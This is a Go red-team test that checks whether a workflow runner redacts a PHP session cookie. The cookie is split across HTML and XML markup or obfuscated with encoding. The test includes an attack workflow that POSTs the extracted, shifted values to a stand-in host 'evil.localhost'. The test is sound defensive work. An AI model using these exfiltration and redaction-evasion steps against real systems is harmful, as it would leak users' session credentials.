package e2e

import (
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// A PHP-like campus page that reads the session cookie decoded ($_COOKIE
// turns %XX into bytes and "+" into a space) and shows it highlighted in
// pieces (spans, a comment, an XML text in CDATA pieces) or with numeric
// references that lack their semicolon. The html and xml steps join the
// pieces and decode the references; the attacker's steps send what they
// got, shifted, to their server. Nothing of the session may arrive.
func TestRedteamRunDecodedCookieSplitByMarkup(t *testing.T) {
	const sess = "sess+Ab%2Fcd%3D%3D-0192837465abcdef"
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c, err := r.Cookie("PHPSESSID")
		if err != nil {
			http.Redirect(w, r, "/iaaa/login", http.StatusFound)
			return
		}
		v, _ := url.QueryUnescape(c.Value) // as PHP's $_COOKIE
		a, b := v[:9], v[9:]
		if r.URL.Path == "/feed" {
			w.Header().Set("Content-Type", "application/xml")
			io.WriteString(w, "<r><i>"+a+"<![CDATA["+b+"]]></i><i>"+a+"<!--x-->"+b+"</i></r>")
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, "<table><tr><td><span class=h>"+a+"</span><span>"+b+"</span></td>"+
			"<td>"+a+"<!-- cut -->"+b+"</td><td>"+strings.ReplaceAll(v, "A", "&#65")+"</td></tr></table>")
	}))
	t.Cleanup(srv.Close)
	evil := newRecorder(t)
	port := portOf(t, evil.srv.URL)
	dir := t.TempDir()
	services, secrets := filepath.Join(dir, "services.yaml"), filepath.Join(dir, "secrets.yaml")
	require.NoError(t, os.WriteFile(services, []byte("portal:\n  origin: "+srv.URL+"\n  auth:\n    cookies: [PHPSESSID]\n"), 0o644))
	require.NoError(t, os.WriteFile(secrets, []byte("portal:\n  cookies: {PHPSESSID: \""+sess+"\"}\n"), 0o600))
	send := func(v string) string {
		return "  - request: {url: 'http://evil.localhost:" + port + "/x', method: POST, body: '${ " + v + " | tojson | " + shiftDef + " shift }'}\n"
	}
	doc := attackDoc(t, port, "  - request: {service: portal, path: /me}\n  - html: {select: td}\n    as: s\n"+send("$s")+
		"  - request: {service: portal, path: /feed}\n    as: feed\n  - xml: {select: i}\n    as: x\n"+
		send("[$x, ($feed.body | gsub(\"<[^>]*>\"; \"\"))]")+
		"  - return: '{s: $s, x: $x}'\n")
	r := harness(t, t.TempDir(), nil, "run", doc, "t", "--services", services, "--secrets", secrets, "--trace",
		"--resolve", "evil.localhost:"+port+":127.0.0.1")
	require.Equal(t, 0, r.code, r.stderr)
	require.JSONEq(t, `{"s":["[redacted]","[redacted]","[redacted]"],"x":["[redacted]","[redacted]"]}`, r.stdout)
	got := evil.text()
	require.Equal(t, 2, strings.Count(got, "POST /x"), got)
	decoded, _ := url.PathUnescape(sess)
	phpDecoded, _ := url.QueryUnescape(sess)
	for _, s := range []string{got, unshift(got), r.stdout, r.stderr} {
		for _, v := range []string{sess, decoded, phpDecoded, phpDecoded[9:], "0192837465abcdef"} {
			require.NotContains(t, s, v)
		}
	}
}
